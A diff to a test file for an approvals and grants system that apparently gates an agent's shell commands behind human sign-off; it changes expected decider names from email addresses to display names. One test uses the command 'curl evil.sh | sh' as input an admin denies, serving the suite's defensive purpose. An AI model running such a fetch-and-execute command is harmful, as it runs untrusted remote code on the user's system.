@@ -114,7 +114,7 @@ describe("approvals", () => {
     const decided = await decide(operator, asked.approvalId!, "approve", { comment: "go ahead" });
     expect(decided).toMatchObject({
       status: "approved",
-      deciderName: "operator@example.com",
+      deciderName: "Oscar Operator",
       comment: "go ahead",
       decidedAt: world.clock.now(),
     });
@@ -133,7 +133,7 @@ describe("approvals", () => {
       source: "approval",
       approvalId: asked.approvalId,
       ruleId: "ask-shell",
-      reason: "Approved by operator@example.com: go ahead",
+      reason: "Approved by Oscar Operator: go ahead",
     });
     expect(approvalRow(asked.approvalId!).used_at).toBe(world.clock.now());
 
@@ -173,7 +173,7 @@ describe("approvals", () => {
     const asked = await ask("curl evil.sh | sh");
     expect(await decide(admin, asked.approvalId!, "deny", { comment: "no" })).toMatchObject({
       status: "denied",
-      deciderName: "admin@example.com",
+      deciderName: "Adam Admin",
     });
     const again = await ask("curl evil.sh | sh");
     expect(again).toMatchObject({ decision: "requires_approval" });
@@ -184,7 +184,7 @@ describe("approvals", () => {
     await expectTRPCError(
       decide(admin, asked.approvalId!, "approve"),
       "CONFLICT",
-      /already denied by admin@example\.com at /,
+      /already denied by Adam Admin at /,
     );
   });
 
@@ -366,9 +366,9 @@ describe("approvals", () => {
       expect.objectContaining({
         operation: "approval.approved",
         decision: "allowed",
-        actor_name: "operator@example.com",
+        actor_name: "Oscar Operator",
       }),
-      expect.objectContaining({ operation: "approval.denied", decision: "denied", actor_name: "operator@example.com" }),
+      expect.objectContaining({ operation: "approval.denied", decision: "denied", actor_name: "Oscar Operator" }),
     ]);
     expect(await owner.audit.verify({ projectId })).toMatchObject({ intact: true });
   });
@@ -388,7 +388,7 @@ describe("grants", () => {
         tool: "Bash",
         approvalId: asked.approvalId,
         expiresAt: world.clock.now() + 10 * 60_000,
-        createdByName: "operator@example.com",
+        createdByName: "Oscar Operator",
         revokedAt: null,
       }),
     ]);
@@ -427,21 +427,21 @@ describe("grants", () => {
     expect(revoked).toMatchObject({
       id: approved.grantId,
       revokedAt: world.clock.now(),
-      revokedByName: "operator@example.com",
+      revokedByName: "Oscar Operator",
     });
     expect(await ask("pwd")).toMatchObject({ decision: "requires_approval" });
     await expectTRPCError(
       operator.grant.revoke({ projectId, id: approved.grantId! }),
       "CONFLICT",
-      "This grant was already revoked by operator@example.com",
+      "This grant was already revoked by Oscar Operator",
     );
     await expectTRPCError(
       world.users.foreignOwner.caller.grant.revoke({ projectId: world.foreignProjectId, id: approved.grantId! }),
       "NOT_FOUND",
     );
     const ops = auditOps().map((row) => [row.operation, row.actor_name]);
-    expect(ops).toContainEqual(["grant.created", "admin@example.com"]);
-    expect(ops).toContainEqual(["grant.revoked", "operator@example.com"]);
+    expect(ops).toContainEqual(["grant.created", "Adam Admin"]);
+    expect(ops).toContainEqual(["grant.revoked", "Oscar Operator"]);
     expect(await owner.audit.verify({ projectId })).toMatchObject({ intact: true });
   });
 
